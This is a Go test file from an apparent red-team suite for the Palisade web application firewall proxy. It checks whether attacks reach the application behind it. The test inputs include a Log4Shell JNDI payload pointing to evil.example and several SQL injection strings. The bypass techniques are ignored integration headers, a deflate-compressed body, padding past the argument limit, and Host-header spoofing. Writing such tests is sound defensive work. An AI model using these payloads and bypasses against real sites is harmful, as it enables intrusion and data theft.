package redteam19

import (
	"bytes"
	"compress/zlib"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/palisadehq/palisade/internal/engine"
	"github.com/palisadehq/palisade/internal/proxy"
	"github.com/palisadehq/palisade/internal/testenv"
)

// upstream records what the application behind palisade proxy received.
type upstream struct {
	mu      sync.Mutex
	headers []http.Header
	bodies  [][]byte
}

func (u *upstream) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	u.mu.Lock()
	u.headers = append(u.headers, r.Header.Clone())
	u.bodies = append(u.bodies, b)
	u.mu.Unlock()
	fmt.Fprintf(w, "app got %d bytes", len(b))
}

func (u *upstream) count() int {
	u.mu.Lock()
	defer u.mu.Unlock()
	return len(u.headers)
}

// proxyStack is a whole Palisade with one website (default settings:
// block at paranoia 1) behind palisade proxy.
func proxyStack(t *testing.T) (srvURL string, app *upstream) {
	t.Helper()
	pal := testenv.New(t)
	pal.Website(t, "shop.example.com", grantAfterWAF)
	app = &upstream{}
	as := httptest.NewServer(app)
	t.Cleanup(as.Close)
	u, _ := url.Parse(as.URL)
	px := proxy.New(pal.Protector, []proxy.Route{{Host: "shop.example.com", Upstream: u}}, nil, nil)
	srv := httptest.NewServer(px)
	t.Cleanup(srv.Close)
	return srv.URL, app
}

func send(t *testing.T, base, method, target string, h http.Header, body []byte) int {
	t.Helper()
	code, _ := sendBody(t, base, method, target, h, body)
	return code
}

func sendBody(t *testing.T, base, method, target string, h http.Header, body []byte) (int, string) {
	t.Helper()
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequest(method, base+target, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = "shop.example.com"
	for k, vs := range browserHeaders() {
		req.Header[k] = vs
	}
	for k, vs := range h {
		req.Header[k] = vs
	}
	c := &http.Client{Timeout: 20 * time.Second}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// grantAfterWAF is the default website with one custom rule granting
// every request: the rules run after the firewall, so only the firewall
// can deny (and a 403 is the firewall's).
var grantAfterWAF = engine.Settings{Rules: []engine.Rule{{Name: "everyone", Action: "grant",
	Conditions: []engine.Condition{{Field: "path", Op: "starts_with", Value: "/"}}}}}

const log4shell = "${jndi:ldap://evil.example/a}"

// FINDING (high): the engine hands the firewall a fixed list of
// "integration headers" to ignore (X-Original-Uri, X-Original-Host,
// X-Forwarded-Uri, X-Palisade-Token, ...) on EVERY integration, even
// where no web server sets them. Through palisade proxy a visitor puts a
// Log4Shell payload (CRS 944150, blocked in any other header) in
// X-Original-Host: the firewall never reads it and the proxy forwards it
// to the application unchanged.
func TestFixed_ProxyIgnoredIntegrationHeaderSmuggledToApp(t *testing.T) {
	base, app := proxyStack(t)
	// Control: the same payload in an ordinary header is denied.
	if code := send(t, base, "GET", "/", http.Header{"X-Api-Version": {log4shell}}, nil); code != 403 {
		t.Fatalf("control: Log4Shell in X-Api-Version answered %d, want 403", code)
	}
	for _, h := range []string{"X-Original-Host", "X-Original-Uri", "X-Forwarded-Uri", "X-Original-Method", "X-Palisade-Token", "X-Palisade-Mode"} {
		before := app.count()
		code := send(t, base, "GET", "/", http.Header{h: {log4shell}}, nil)
		if code != 403 {
			got := ""
			if app.count() > before {
				app.mu.Lock()
				got = app.headers[len(app.headers)-1].Get(h)
				app.mu.Unlock()
			}
			t.Errorf("Log4Shell in %s: answered %d (want 403); the application received %s: %q", h, code, h, got)
		}
	}
}

// deflatedSQLi is a zlib stream (HTTP's "deflate" content coding) of
// "id=1' OR '1'='1&pad=xxxxxxxxxxxxxxxxxxxxy", chosen (by its padding)
// to hold no NUL byte, which CRS's 920270 would refuse in a parameter.
const deflatedSQLi = "7801cb4cb1355457f00f52503754b75537542b484cb1adc0022a01074e0ec9"

// HELD: a request body with Content-Encoding (here deflate, crafted
// without NUL bytes so 920270 stays quiet) would hide an SQL injection
// from CRS from applications that decompress request bodies; CRS's 920450
// (Content-Encoding is a restricted header) denies it at paranoia 1.
// (Oddity: the match is reported on REQUEST_HEADERS_NAMES:Content-Length,
// not Content-Encoding; see TestFAILS_ReportedVariableIsTheCulprit.)
func TestHeld_ProxyDeflateEncodedBodySQLiDenied(t *testing.T) {
	base, app := proxyStack(t)
	sqli := "id=1' OR '1'='1"
	body, _ := hex.DecodeString(deflatedSQLi)
	if zr, err := zlib.NewReader(bytes.NewReader(body)); err != nil {
		t.Fatal(err)
	} else if b, _ := io.ReadAll(zr); !strings.HasPrefix(string(b), sqli) {
		t.Fatalf("the stream holds %q", b)
	}
	h := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Content-Encoding": {"deflate"}}
	before := app.count()
	code := send(t, base, "POST", "/login", h, body)
	if code == 403 {
		return
	}
	got := ""
	if app.count() > before {
		app.mu.Lock()
		if zr, err := zlib.NewReader(bytes.NewReader(app.bodies[len(app.bodies)-1])); err == nil {
			b, _ := io.ReadAll(zr)
			got = string(b)
		}
		app.mu.Unlock()
	}
	t.Errorf("deflate-encoded form with SQL injection answered %d (want 403 or 415); decompressed, the application got %.40q", code, got)
}

// End to end through palisade proxy: see TestFAILS_ArgumentLimitHidesTheAttack.
func TestFixed_ProxyArgumentLimitSQLiReachesApp(t *testing.T) {
	base, app := proxyStack(t)
	var sb strings.Builder
	for i := 0; i < 1000; i++ {
		fmt.Fprintf(&sb, "a%d=&", i)
	}
	if code := send(t, base, "GET", "/search?id=1%27%20OR%20%271%27%3D%271", nil, nil); code != 403 {
		t.Fatalf("control: %d", code)
	}
	before := app.count()
	if code := send(t, base, "GET", "/search?"+sb.String()+"id=1%27%20OR%20%271%27%3D%271", nil, nil); code != 403 {
		t.Errorf("SQL injection as the 1001st query parameter answered %d; the application got it: %v", code, app.count() > before)
	}
}

// FINDING (high, anonymous visitor; palisade proxy --upstream without
// --site): the default route ("--upstream URL", for every host) sends a
// request whose Host is no registered website to the application too,
// and the engine grants an unknown website as unprotected: no firewall,
// no bot rules. The visitor changes the Host header
// (curl -H 'Host: x' http://site/?id=1'…) and WordPress, like most
// applications, answers whatever the Host. Refuse (421) hosts that are
// not a website of this Palisade on the default route, or make --site
// required with --upstream.
func TestFixed_ProxyDefaultRouteUnknownHostUnprotected(t *testing.T) {
	pal := testenv.New(t)
	pal.Website(t, "shop.example.com", grantAfterWAF)
	app := &upstream{}
	as := httptest.NewServer(app)
	defer as.Close()
	u, _ := url.Parse(as.URL)
	px := proxy.New(pal.Protector, []proxy.Route{{Host: "", Upstream: u}}, nil, nil)
	srv := httptest.NewServer(px)
	defer srv.Close()
	attack := "/products?id=1%27%20OR%20%271%27%3D%271"
	if code := send(t, srv.URL, "GET", attack, nil, nil); code != 403 {
		t.Fatalf("control (Host shop.example.com): %d", code)
	}
	req, _ := http.NewRequest("GET", srv.URL+attack, nil)
	req.Host = "not-a-website.example"
	for k, vs := range browserHeaders() {
		req.Header[k] = vs
	}
	before := app.count()
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 403 && resp.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("the SQL injection with Host: not-a-website.example answered %d; the application got it: %v", resp.StatusCode, app.count() > before)
	}
}
